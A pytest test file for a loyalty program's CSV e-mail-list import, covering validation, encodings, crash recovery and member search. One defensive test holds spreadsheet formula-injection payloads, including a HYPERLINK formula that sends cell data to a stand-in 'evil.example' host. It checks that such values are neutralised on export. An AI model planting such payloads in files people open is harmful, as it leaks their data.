"""E-mail list uploads: dry runs, imports through the sweep, encodings, hostile files,
resuming after a killed worker, and the members list."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from flask import Flask
from sqlalchemy import func, select

from app.distribution import imports
from app.distribution.csvsafe import safe_cell, write_rows
from app.extensions import db
from app.jobs import run_sweep_now
from app.models import ConsentRecord, Member, MemberImport, OutboxEvent
from tests.conftest import Api

BASIS = "Customers who joined our paper card program and agreed to receive e-mails"


def upload(api: Api, program_id: int, body: bytes, content_type: str = "text/csv",
           **params: Any) -> Any:
    """POST a CSV as the raw body."""
    params.setdefault("consent_basis", BASIS)
    return api.client.post(f"/api/v1/programs/{program_id}/imports?{urlencode(params)}",
                           data=body, headers={**api.headers, "Content-Type": content_type})


def run_imports(app: Flask) -> None:
    """Run the imports sweep once, as a worker would."""
    with app.app_context():
        run_sweep_now(imports.SWEEP)


def count(app: Flask, model: Any, *where: Any) -> int:
    """Rows of a table."""
    with app.app_context():
        return int(db.session.scalar(select(func.count()).select_from(model).where(*where)))


def csv_of(rows: list[str], header: str = "email,name,birthday,phone,external_id,language"
           ) -> bytes:
    """A CSV file's bytes."""
    return ("\n".join([header, *rows]) + "\n").encode()


SAMPLE = csv_of([
    "ann@example.com,Ann,1990-04-01,+66 81 234 5678,A1,th",
    "bob@example.com,Bob,,,,",
    "ANN@example.com,Ann again,,,,",              # repeats row 2 (case-insensitive)
    "not-an-email,Nobody,,,,",                    # invalid e-mail
    "cee@example.com,Cee,1990-13-45,,,",          # bad date
    ",No Email,,,,",                              # missing e-mail
    "",                                           # blank line
    "dee@example.com,Dee,,,,zh-TW",
])


# --- dry run -----------------------------------------------------------------------------


def test_dry_run_counts_and_creates_nothing(app: Flask, api: Api, program: dict[str, Any],
                                            member: dict[str, Any]) -> None:
    body = SAMPLE + b"ann@example.test,Existing Ann,,,,\n"  # `member` is ann@example.test
    r = upload(api, program["id"], body, dry_run="true")
    assert r.status_code == 200, r.get_json()
    got = r.get_json()
    assert (got["rows"], got["valid"], got["duplicates"], got["blank_lines"]) == (8, 3, 2, 1)
    assert got["error_count"] == 3
    assert [(e["row"], e["field"]) for e in got["errors"]] == [
        (5, "email"), (6, "birthday"), (7, "email")]
    assert "not a valid email" in got["errors"][0]["message"]
    assert "YYYY-MM-DD" in got["errors"][1]["message"]
    assert "Missing" in got["errors"][2]["message"]
    assert count(app, Member) == 1 and count(app, MemberImport) == 0


def test_dry_run_lists_at_most_1000_errors_and_counts_them_all(api: Api,
                                                               program: dict[str, Any]) -> None:
    body = csv_of([f"bad{i},x" for i in range(1500)], header="email,name")
    got = upload(api, program["id"], body, dry_run="1").get_json()
    assert got["error_count"] == 1500 and len(got["errors"]) == 1000 and got["valid"] == 0


# --- import end to end -------------------------------------------------------------------


def test_import_enrolls_through_the_sweep_with_consent_and_events(
        app: Flask, api: Api, program: dict[str, Any]) -> None:
    r = upload(api, program["id"], SAMPLE)
    assert r.status_code == 202, r.get_json()
    job = r.get_json()
    assert job["status"] == "running" and job["processed"] == 0
    run_imports(app)
    got = api.get(f"/imports/{job['id']}").get_json()
    assert got["status"] == "done", got
    assert (got["processed"], got["created"], got["skipped"], got["error_count"],
            got["blank_lines"]) == (7, 3, 4, 3, 1)
    assert [e["row"] for e in got["errors"]] == [5, 6, 7]
    with app.app_context():
        members = {m.email: m for m in db.session.scalars(select(Member))}
        assert set(members) == {"ann@example.com", "bob@example.com", "dee@example.com"}
        ann = members["ann@example.com"]
        assert (ann.name, ann.phone, ann.external_id, ann.language, str(ann.birthday),
                ann.source, ann.marketing_consent) == (
            "Ann", "+66812345678", "A1", "th", "1990-04-01", "import", True)
        assert members["dee@example.com"].language == "zh-Hant"
        consents = db.session.scalars(select(ConsentRecord)).all()
        assert len(consents) == 3
        assert {(c.purpose, c.granted, c.text, c.language, c.source) for c in consents} == {
            ("marketing", True, BASIS, "en", "import")}
        events = db.session.scalars(select(OutboxEvent).where(
            OutboxEvent.event_type == "member.enrolled")).all()
        assert sorted(e.payload["email"] for e in events) == sorted(members)
        assert all(e.payload["source"] == "import" for e in events)
    assert count(app, imports.ImportChunk) == 0  # the stored file is dropped when done


def test_imported_members_get_the_welcome_bonus_and_referral_codes_as_any_enrollment(
        app: Flask, api: Api, program: dict[str, Any]) -> None:
    r = api.patch(f"/programs/{program['id']}/rules", {"welcome_bonus": 50})
    assert r.status_code == 200, r.get_json()
    upload(api, program["id"], csv_of([f"w{i}@example.com" for i in range(3)], header="email"))
    run_imports(app)
    with app.app_context():
        members = db.session.scalars(select(Member)).all()
        assert [m.points for m in members] == [50, 50, 50]
        codes = {m.referral_code for m in members}
        assert len(codes) == 3 and None not in codes
        kinds = sorted(e.event_type for e in db.session.scalars(select(OutboxEvent)))
        assert kinds == ["member.enrolled"] * 3 + ["points.changed"] * 3


def test_importing_the_same_file_twice_creates_nothing_new(app: Flask, api: Api,
                                                           program: dict[str, Any]) -> None:
    body = csv_of([f"user{i}@example.com,User {i}" for i in range(30)], header="email,name")
    first = upload(api, program["id"], body).get_json()
    run_imports(app)
    events = count(app, OutboxEvent)
    second = upload(api, program["id"], body).get_json()
    run_imports(app)
    assert api.get(f"/imports/{first['id']}").get_json()["created"] == 30
    again = api.get(f"/imports/{second['id']}").get_json()
    assert (again["status"], again["created"], again["skipped"]) == ("done", 0, 30)
    assert count(app, Member) == 30 and count(app, OutboxEvent) == events
    dry = upload(api, program["id"], body, dry_run="true").get_json()
    assert (dry["valid"], dry["duplicates"]) == (0, 30)


def test_an_idempotency_key_replays_the_upload(app: Flask, api: Api,
                                               program: dict[str, Any]) -> None:
    body = csv_of(["a@example.com"], header="email")
    key = {"Idempotency-Key": "list-1"}
    url = f"/api/v1/programs/{program['id']}/imports?" + urlencode({"consent_basis": BASIS})
    one = api.client.post(url, data=body, headers={**api.headers, **key,
                                                   "Content-Type": "text/csv"})
    two = api.client.post(url, data=body, headers={**api.headers, **key,
                                                   "Content-Type": "text/csv"})
    assert one.status_code == two.status_code == 202
    assert one.get_json()["id"] == two.get_json()["id"] and count(app, MemberImport) == 1
    other = api.client.post(url, data=body + b"b@example.com\n",
                            headers={**api.headers, **key, "Content-Type": "text/csv"})
    assert other.status_code == 422


def test_a_mapping_names_other_headers_and_others_are_ignored(
        app: Flask, api: Api, program: dict[str, Any]) -> None:
    body = csv_of(["x@example.com,Xavier,VIP,42", "y@example.com,Yara,,43"],
                  header="E-mail Address,Full Name,Segment,Customer No")
    mapping = json.dumps({"E-mail Address": "email", "Full Name": "name",
                          "customer no": "external_id"})
    form = {"file": (__import__("io").BytesIO(body), "list.csv", "text/csv"),
            "consent_basis": BASIS, "mapping": mapping}
    r = api.client.post(f"/api/v1/programs/{program['id']}/imports", data=form,
                        headers=api.headers, content_type="multipart/form-data")
    assert r.status_code == 202, r.get_json()
    assert r.get_json()["columns"] == {"E-mail Address": "email", "Full Name": "name",
                                       "Customer No": "external_id"}
    run_imports(app)
    with app.app_context():
        got = {(m.email, m.name, m.external_id) for m in db.session.scalars(select(Member))}
    assert got == {("x@example.com", "Xavier", "42"), ("y@example.com", "Yara", "43")}


def test_clear_422s_for_a_missing_email_column_a_bad_mapping_or_no_basis(
        api: Api, program: dict[str, Any]) -> None:
    r = upload(api, program["id"], b"E-mail Address,name\na@example.com,A\n")
    assert r.status_code == 422
    assert r.get_json()["error"]["code"] == "missing_email_column"
    assert "E-mail Address" in r.get_json()["error"]["message"]
    r = upload(api, program["id"], b"mail\na@example.com\n", mapping='{"mail": "points"}')
    assert r.status_code == 422 and "points" in r.get_json()["error"]["message"]
    r = upload(api, program["id"], b"mail\na@example.com\n", mapping="[1,2")
    assert r.status_code == 422 and r.get_json()["error"]["code"] == "invalid_mapping"
    r = upload(api, program["id"], b"email\na@example.com\n", consent_basis="")
    assert r.status_code == 422 and "consent_basis" in r.get_json()["error"]["message"]
    r = upload(api, program["id"], b"", dry_run="true")
    assert r.status_code == 422 and r.get_json()["error"]["code"] == "empty_file"
    r = upload(api, program["id"], b"email\na@example.com\n", content_type="image/png")
    assert r.status_code == 415


def test_a_file_over_the_import_limit_is_413_and_the_limit_is_not_the_json_one(
        make_app: Any) -> None:
    from tests.conftest import new_api_key

    app = make_app(IMPORT_MAX_BYTES=4000, MAX_CONTENT_LENGTH=1000)
    client = Api(app.test_client(), new_api_key(app, "Shop", "shop@example.test"))
    pid = client.post("/programs", {"name": "P", "template": "cafe"}).get_json()["id"]
    fits = csv_of([f"u{i}@example.com" for i in range(150)], header="email")
    assert 1000 < len(fits) < 4000
    assert upload(client, pid, fits).status_code == 202
    too_big = csv_of([f"u{i}@example.com" for i in range(400)], header="email")
    r = upload(client, pid, too_big)
    assert r.status_code == 413 and r.get_json()["error"]["code"] in ("too_large",
                                                                      "request_entity_too_large")


def test_imports_belong_to_their_merchant(app: Flask, api: Api, other_api: Api,
                                          program: dict[str, Any]) -> None:
    job = upload(api, program["id"], csv_of(["a@example.com"], header="email")).get_json()
    assert other_api.get(f"/imports/{job['id']}").status_code == 404
    assert upload(other_api, program["id"], b"email\nb@example.com\n").status_code == 404
    assert upload(other_api, program["id"], b"email\nb@example.com\n",
                  dry_run="true").status_code == 404
    assert api.get(f"/imports/{job['id']}").status_code == 200


# --- encodings ---------------------------------------------------------------------------

THAI = "สมชาย ใจดี ร้านกาแฟ สุขุมวิท"
CHINESE = "陳大文"


def imported_names(app: Flask) -> set[str]:
    """Names of every member."""
    with app.app_context():
        return set(db.session.scalars(select(Member.name)))


@pytest.mark.parametrize("encoding,declare", [
    ("utf-8-sig", None), ("utf-8", None), ("cp874", None), ("cp874", "charset"),
    ("big5", "encoding"), ("big5", None)])
def test_encodings_are_read_not_garbled(app: Flask, api: Api, program: dict[str, Any],
                                        encoding: str, declare: str | None) -> None:
    name = THAI if encoding == "cp874" else CHINESE if encoding == "big5" else THAI + CHINESE
    body = f"email,name\r\nsom@example.com,{name}\r\n".encode(encoding)
    declared = {"cp874": "tis-620", "big5": "big5"}.get(encoding, "utf-8")
    content_type = "text/csv" + (f"; charset={declared}" if declare == "charset" else "")
    params = {"encoding": declared} if declare == "encoding" else {}
    r = upload(api, program["id"], body, content_type, **params)
    assert r.status_code == 202, r.get_json()
    assert r.get_json()["encoding"] == {"cp874": "tis-620"}.get(encoding, declared)
    run_imports(app)
    assert imported_names(app) == {name}


def test_a_broken_or_ambiguous_encoding_is_refused_with_a_clear_message(
        app: Flask, api: Api, program: dict[str, Any]) -> None:
    latin1 = "email,name\nzoe@example.com,Zoë Müller\n".encode("latin-1")
    r = upload(api, program["id"], latin1)
    assert r.status_code == 422 and r.get_json()["error"]["code"] == "unknown_encoding"
    assert "UTF-8" in r.get_json()["error"]["message"]
    thai = f"email,name\nsom@example.com,{THAI}\n".encode("cp874")
    r = upload(api, program["id"], thai, encoding="big5")
    assert r.status_code == 422 and r.get_json()["error"]["code"] == "wrong_encoding"
    assert "BIG5" in r.get_json()["error"]["message"]
    cut = f"email,name\nsom@example.com,{THAI}\n".encode()[:-3] + b"\xff\n"
    assert upload(api, program["id"], cut, encoding="utf-8").status_code == 422
    r = upload(api, program["id"], b"email\na@b.co\n", encoding="ebcdic")
    assert r.status_code == 422 and r.get_json()["error"]["code"] == "unsupported_encoding"
    assert count(app, MemberImport) == 0


# --- hostile files -----------------------------------------------------------------------


def test_formulas_in_names_are_stored_as_text_and_exported_safely(
        app: Flask, api: Api, program: dict[str, Any], tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    body = csv_of([f'eve@example.com,"{evil.replace(chr(34), chr(34) * 2)}"',
                   "mal@example.com,+SUM(1;2)", "tab@example.com,@cmd"], header="email,name")
    upload(api, program["id"], body)
    run_imports(app)
    assert evil in imported_names(app)
    out = tmp_path / "export.csv"
    with out.open("w", newline="", encoding="utf-8") as f:
        write_rows(f, [["name"], *[[n] for n in sorted(imported_names(app))]])
    exported = out.read_text().splitlines()[1:]
    assert all(line.lstrip('"').startswith("'") for line in exported), exported
    for cell in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert safe_cell(cell) == "'" + cell
    assert safe_cell("Ann") == "Ann" and safe_cell(5) == "5"


def test_a_10_mb_field_is_a_row_error_and_the_rest_imports(app: Flask, api: Api,
                                                           program: dict[str, Any]) -> None:
    huge = "x" * (10 * 1024 * 1024)
    body = (f"email,name\nbig@example.com,{huge}\nok@example.com,Ok\n"
            f'quoted@example.com,"{huge[:300_000]}\nstill quoted"\nlast@example.com,Last\n'
            ).encode()
    dry = upload(api, program["id"], body, dry_run="true").get_json()
    assert dry["valid"] == 2 and dry["error_count"] >= 2
    assert "longer than" in dry["errors"][0]["message"] and dry["errors"][0]["row"] == 2
    upload(api, program["id"], body)
    run_imports(app)
    with app.app_context():
        assert set(db.session.scalars(select(Member.email))) == {"ok@example.com",
                                                                "last@example.com"}


def test_a_million_empty_lines_are_counted_quickly(app: Flask, api: Api,
                                                   program: dict[str, Any]) -> None:
    body = b"email\n" + b"\n" * 500_000 + b"a@example.com\n" + b"\r\n" * 500_000
    started = time.monotonic()
    dry = upload(api, program["id"], body, dry_run="true").get_json()
    assert (dry["rows"], dry["valid"], dry["blank_lines"]) == (1, 1, 1_000_000)
    job = upload(api, program["id"], body).get_json()
    run_imports(app)
    got = api.get(f"/imports/{job['id']}").get_json()
    assert (got["status"], got["created"], got["blank_lines"]) == ("done", 1, 1_000_000)
    assert time.monotonic() - started < 20


# --- resuming after a crash --------------------------------------------------------------

WORKER = """
import os, sys
from app import create_app
from app.distribution import imports
app = create_app({"DATABASE_URL": sys.argv[1], "DATA_DIR": sys.argv[2],
                  "EMBEDDED_WORKER": False, "SECRET_KEY": "x", "IMPORT_CHUNK_ROWS": 50})
with app.app_context():
    [import_id] = imports.claim_due()
    imports.process(import_id, max_chunks=1)
    print("committed", flush=True)
    sys.stdin.readline()  # killed here, holding the lease, between two chunks
    imports.process(import_id)
"""


def test_a_worker_killed_mid_import_resumes_without_duplicates(
        app: Flask, api: Api, program: dict[str, Any], database_url: str,
        tmp_path: Path) -> None:
    body = csv_of([f"user{i}@example.com,User {i}" for i in range(240)], header="email,name")
    job = upload(api, program["id"], body).get_json()
    worker = subprocess.Popen([sys.executable, "-c", WORKER, database_url,
                               str(tmp_path / "worker")], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True,
                              env={**os.environ, "PYTHONPATH": os.getcwd()})
    assert worker.stdout is not None
    assert worker.stdout.readline().strip() == "committed"
    os.kill(worker.pid, signal.SIGKILL)
    worker.wait()
    partial = api.get(f"/imports/{job['id']}").get_json()
    assert (partial["status"], partial["processed"], partial["created"]) == ("running", 50, 50)
    assert count(app, Member) == 50
    run_imports(app)  # the dead worker's lease holds the import for now
    assert count(app, Member) == 50
    with app.app_context():  # ... until it ends
        db.session.execute(db.update(MemberImport).values(next_attempt_at=None))
        db.session.commit()
    run_imports(app)
    done = api.get(f"/imports/{job['id']}").get_json()
    assert (done["status"], done["processed"], done["created"], done["skipped"]) == (
        "done", 240, 240, 0)
    assert count(app, Member) == 240
    assert count(app, OutboxEvent, OutboxEvent.event_type == "member.enrolled") == 240
    assert count(app, ConsentRecord) == 240


def test_a_chunk_raced_by_an_enrollment_is_redone_and_endless_races_fail(
        app: Flask, api: Api, program: dict[str, Any], member: dict[str, Any],
        monkeypatch: pytest.MonkeyPatch) -> None:
    real, looks = imports._existing, []

    def racing(program_id: int, emails: list[str]) -> set[str]:
        """The first look misses `member` (enrolled 'meanwhile'), as a race would."""
        looks.append(1)
        return set() if len(looks) == 1 else real(program_id, emails)

    monkeypatch.setattr(imports, "_existing", racing)
    body = csv_of(["new@example.com", "ann@example.test"], header="email")
    job = upload(api, program["id"], body).get_json()
    run_imports(app)
    got = api.get(f"/imports/{job['id']}").get_json()
    assert (got["status"], got["created"], got["skipped"], len(looks)) == ("done", 1, 1, 2)
    assert count(app, Member) == 2
    monkeypatch.setattr(imports, "_existing", lambda program_id, emails: set())
    job = upload(api, program["id"], csv_of(["ann@example.test"], header="email")).get_json()
    run_imports(app)
    got = api.get(f"/imports/{job['id']}").get_json()
    assert got["status"] == "failed" and "conflicting" in got["failure"]
    assert count(app, Member) == 2


def test_the_embedded_worker_imports_on_its_own(make_app: Any, api: Api) -> None:
    from tests.conftest import new_api_key

    app = make_app(EMBEDDED_WORKER=True, WORKER_POLL_SECONDS=0.2)
    from app.jobs import start_embedded_worker

    worker = start_embedded_worker(app)
    assert worker is not None
    try:
        client = Api(app.test_client(), new_api_key(app, "Shop", "shop@example.test"))
        pid = client.post("/programs", {"name": "P", "template": "cafe"}).get_json()["id"]
        job = upload(client, pid, csv_of(["a@example.com", "b@example.com"], header="email"))
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            got = client.get(f"/imports/{job.get_json()['id']}").get_json()
            if got["status"] == "done":
                break
            time.sleep(0.1)
        assert got["status"] == "done" and got["created"] == 2
    finally:
        worker.stop()


# --- the members list --------------------------------------------------------------------


def test_members_list_pages_and_searches(app: Flask, api: Api, other_api: Api,
                                         program: dict[str, Any]) -> None:
    rows = [f"user{i}@example.com,User {i:03},+66 81 234 {5000 + i},EXT{i}" for i in range(25)]
    upload(api, program["id"], csv_of(rows, header="email,name,phone,external_id"))
    run_imports(app)
    pid = program["id"]
    seen, after = [], None
    while True:
        query = {"limit": 10, **({"after": after} if after else {})}
        page = api.get(f"/programs/{pid}/members?{urlencode(query)}").get_json()
        seen += [m["email"] for m in page["members"]]
        after = page["next_after"]
        if after is None:
            break
    assert len(seen) == len(set(seen)) == 25
    found = api.get(f"/programs/{pid}/members?q=USER 01").get_json()["members"]
    assert sorted(m["name"] for m in found) == [f"User {i:03}" for i in range(10, 20)]
    assert [m["email"] for m in api.get(f"/programs/{pid}/members?q=ext7").get_json()[
        "members"]] == ["user7@example.com"]
    assert len(api.get(f"/programs/{pid}/members?q=5024").get_json()["members"]) == 1
    serial = api.get(f"/programs/{pid}/members?limit=1").get_json()["members"][0]
    by_serial = api.get(f"/programs/{pid}/members?q={serial['serial_number']}").get_json()
    assert [m["id"] for m in by_serial["members"]] == [serial["id"]]
    assert api.get(f"/programs/{pid}/members?limit=201").status_code == 422
    assert api.get(f"/programs/{pid}/members?q=a%00b").status_code == 400  # refused centrally
    assert other_api.get(f"/programs/{pid}/members").status_code == 404
